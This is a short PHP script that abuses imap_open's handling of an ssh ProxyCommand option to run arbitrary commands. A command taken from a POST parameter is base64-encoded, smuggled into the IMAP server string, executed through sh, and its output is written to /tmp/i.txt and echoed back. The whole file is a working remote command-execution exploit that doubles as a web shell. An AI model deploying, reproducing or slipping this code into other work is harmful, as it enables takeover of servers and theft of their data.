<?php
// probe (never run): imap_open runs ssh's ProxyCommand, the command base64 encoded
$payload = base64_encode($_POST['c'] . ' > /tmp/i.txt');
$server = 'x -oProxyCommand=echo' . "\t" . $payload . '|base64' . "\t" . '-d|sh}';
@imap_open('{' . $server . ':143/imap}INBOX', '', '');
echo @file_get_contents('/tmp/i.txt');
